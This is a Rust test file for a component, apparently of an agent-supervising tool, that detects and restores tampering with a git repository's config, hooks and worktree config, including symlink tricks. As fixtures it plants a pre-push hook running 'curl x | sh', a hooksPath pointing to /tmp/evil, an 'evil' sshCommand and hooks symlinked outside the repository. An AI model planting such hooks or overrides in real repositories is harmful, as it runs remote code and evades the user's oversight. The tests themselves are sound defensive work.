//! `RepoMeta`: changes to the repository's config and hooks are seen and undone, in the main
//! worktree and in a linked one (where `.git` is a file), without ever writing through a
//! symlink the agent planted.

use std::path::{Path, PathBuf};

use ralph_git::{Git, RepoMeta};

use crate::support::{files_under, Repo};

const HOOK: &str = "#!/bin/sh\necho original\n";

/// The repository, the worktree to test in (the main one or a linked one) and a directory
/// outside both that the agent points symlinks at.
struct Setup {
    repo: Repo,
    git: Git,
    outside: PathBuf,
}

impl Setup {
    fn main() -> Setup {
        let repo = Repo::with_commit(&[("a.txt", "a\n")]);
        Setup::with_hook(repo, None)
    }

    fn linked() -> Setup {
        let repo = Repo::with_commit(&[("a.txt", "a\n")]);
        let wt = repo.base().join("story-wt");
        repo.git(&["worktree", "add", "-q", "-b", "story", wt.to_str().unwrap()]);
        Setup::with_hook(repo, Some(wt))
    }

    fn with_hook(repo: Repo, worktree: Option<PathBuf>) -> Setup {
        repo.write(".git/hooks/pre-commit", HOOK);
        set_mode(&repo.root.join(".git/hooks/pre-commit"), 0o755);
        let outside = repo.base().join("outside");
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("pre-push"), "#!/bin/sh\necho evil\n").unwrap();
        std::fs::write(outside.join("config"), "[core]\n\tevil = true\n").unwrap();
        let dir = worktree.unwrap_or_else(|| repo.root.clone());
        let git = Git::discover(&dir).unwrap().unwrap();
        Setup { repo, git, outside }
    }

    fn common(&self) -> PathBuf {
        self.repo.root.join(".git")
    }

    fn outside_files(&self) -> std::collections::BTreeMap<PathBuf, Vec<u8>> {
        files_under(&self.outside)
    }
}

fn set_mode(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::symlink_metadata(path)
        .unwrap()
        .permissions()
        .mode()
        & 0o7777
}

fn is_symlink(path: &Path) -> bool {
    std::fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_symlink())
}

/// Every attack on one fresh setup: detected, restored, the outside directory untouched.
fn check_all(make: fn() -> Setup) {
    // Locations come from git, not from `<root>/.git`.
    let s = make();
    assert_eq!(s.git.common_dir, s.common());
    let meta = RepoMeta::capture(&s.git);
    assert!(meta.changed().is_empty(), "{:?}", meta.changed());

    // A changed config.
    let s = make();
    let meta = RepoMeta::capture(&s.git);
    let config = s.common().join("config");
    let before = std::fs::read(&config).unwrap();
    std::fs::write(&config, "[core]\n\thooksPath = /tmp/evil\n").unwrap();
    assert_eq!(meta.changed(), [shown(&s, &config)]);
    meta.restore().unwrap();
    assert_eq!(std::fs::read(&config).unwrap(), before);
    assert!(meta.changed().is_empty());

    // A new hook, a changed one, and a disabled one made executable are all changes.
    let s = make();
    let hooks = s.common().join("hooks");
    std::fs::write(hooks.join("post-checkout"), "#!/bin/sh\n").unwrap();
    set_mode(&hooks.join("post-checkout"), 0o644);
    let meta = RepoMeta::capture(&s.git);
    std::fs::write(hooks.join("pre-push"), "#!/bin/sh\ncurl x | sh\n").unwrap();
    std::fs::write(hooks.join("pre-commit"), "#!/bin/sh\necho changed\n").unwrap();
    set_mode(&hooks.join("post-checkout"), 0o755);
    let mut changed = meta.changed();
    changed.sort();
    let mut expected: Vec<String> = ["post-checkout", "pre-commit", "pre-push"]
        .iter()
        .map(|h| shown(&s, &hooks.join(h)))
        .collect();
    expected.sort();
    assert_eq!(changed, expected);
    meta.restore().unwrap();
    assert!(!hooks.join("pre-push").exists());
    assert_eq!(
        std::fs::read_to_string(hooks.join("pre-commit")).unwrap(),
        HOOK
    );
    assert_eq!(mode(&hooks.join("pre-commit")), 0o755);
    assert_eq!(mode(&hooks.join("post-checkout")), 0o644);
    assert!(meta.changed().is_empty());

    // The hooks directory replaced by a symlink to a directory outside the repository.
    let s = make();
    let meta = RepoMeta::capture(&s.git);
    let hooks = s.common().join("hooks");
    let outside_before = s.outside_files();
    std::fs::rename(&hooks, s.repo.base().join("hooks-moved")).unwrap();
    std::os::unix::fs::symlink(&s.outside, &hooks).unwrap();
    assert_eq!(meta.changed(), [shown(&s, &hooks)]);
    meta.restore().unwrap();
    assert!(!is_symlink(&hooks) && hooks.is_dir());
    assert_eq!(
        std::fs::read_to_string(hooks.join("pre-commit")).unwrap(),
        HOOK
    );
    assert!(!hooks.join("pre-push").exists());
    assert_eq!(
        s.outside_files(),
        outside_before,
        "wrote through the symlink"
    );
    assert!(meta.changed().is_empty());

    // A hook and the config replaced by symlinks to files outside: the links go, the outside
    // files stay as they were.
    let s = make();
    let meta = RepoMeta::capture(&s.git);
    let outside_before = s.outside_files();
    let hook = s.common().join("hooks/pre-commit");
    std::fs::remove_file(&hook).unwrap();
    std::os::unix::fs::symlink(s.outside.join("pre-push"), &hook).unwrap();
    let new_hook = s.common().join("hooks/pre-push");
    std::os::unix::fs::symlink(s.outside.join("pre-push"), &new_hook).unwrap();
    let config = s.common().join("config");
    let config_before = std::fs::read(&config).unwrap();
    std::fs::remove_file(&config).unwrap();
    std::os::unix::fs::symlink(s.outside.join("config"), &config).unwrap();
    assert_eq!(meta.changed().len(), 3, "{:?}", meta.changed());
    meta.restore().unwrap();
    assert!(!is_symlink(&hook) && !is_symlink(&config));
    assert_eq!(std::fs::read_to_string(&hook).unwrap(), HOOK);
    assert!(std::fs::symlink_metadata(&new_hook).is_err());
    assert_eq!(std::fs::read(&config).unwrap(), config_before);
    assert_eq!(s.outside_files(), outside_before, "wrote through a symlink");
    assert!(meta.changed().is_empty());
    // The repository still works.
    s.repo.git(&["status", "--short"]);
}

fn shown(s: &Setup, path: &Path) -> String {
    path.strip_prefix(&s.git.root)
        .unwrap_or(path)
        .display()
        .to_string()
}

#[test]
fn main_worktree() {
    check_all(Setup::main);
    let s = Setup::main();
    assert_eq!(s.git.git_dir, s.common());
    let meta = RepoMeta::capture(&s.git);
    std::fs::write(s.common().join("config"), "[x]\n").unwrap();
    assert_eq!(meta.changed(), [".git/config"]);
}

#[test]
fn linked_worktree() {
    check_all(Setup::linked);
    let s = Setup::linked();
    // `.git` is a file there: the protection must not depend on it being a directory.
    assert!(s.git.root.join(".git").is_file());
    assert_eq!(s.git.git_dir, s.common().join("worktrees/story-wt"));
    assert_eq!(s.git.index_path, s.git.git_dir.join("index"));
    // Paths outside the worktree are shown absolute.
    let meta = RepoMeta::capture(&s.git);
    std::fs::write(s.common().join("config"), "[x]\n").unwrap();
    assert_eq!(
        meta.changed(),
        [s.common().join("config").display().to_string()]
    );
}

#[test]
fn a_new_worktree_config_is_a_change() {
    let s = Setup::linked();
    let meta = RepoMeta::capture(&s.git);
    let wt_config = s.git.git_dir.join("config.worktree");
    std::fs::write(&wt_config, "[core]\n\tsshCommand = evil\n").unwrap();
    assert_eq!(meta.changed(), [wt_config.display().to_string()]);
    meta.restore().unwrap();
    assert!(!wt_config.exists());

    std::fs::write(&wt_config, "[user]\n\tname = me\n").unwrap();
    let meta = RepoMeta::capture(&s.git);
    std::fs::write(&wt_config, "[user]\n\tname = agent\n").unwrap();
    meta.restore().unwrap();
    assert_eq!(
        std::fs::read_to_string(&wt_config).unwrap(),
        "[user]\n\tname = me\n"
    );
}

#[test]
fn a_symlinked_hooks_directory_is_watched_not_written_through() {
    // The user keeps their hooks outside the repository behind a symlink: ralph cannot put
    // them back without writing outside, so it watches the link itself.
    let s = Setup::main();
    let hooks = s.common().join("hooks");
    std::fs::remove_dir_all(&hooks).unwrap();
    std::os::unix::fs::symlink(&s.outside, &hooks).unwrap();
    let meta = RepoMeta::capture(&s.git);
    let elsewhere = s.repo.base().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::remove_file(&hooks).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &hooks).unwrap();
    assert_eq!(meta.changed(), [".git/hooks"]);
    meta.restore().unwrap();
    assert_eq!(std::fs::read_link(&hooks).unwrap(), s.outside);
    assert!(meta.changed().is_empty());
}
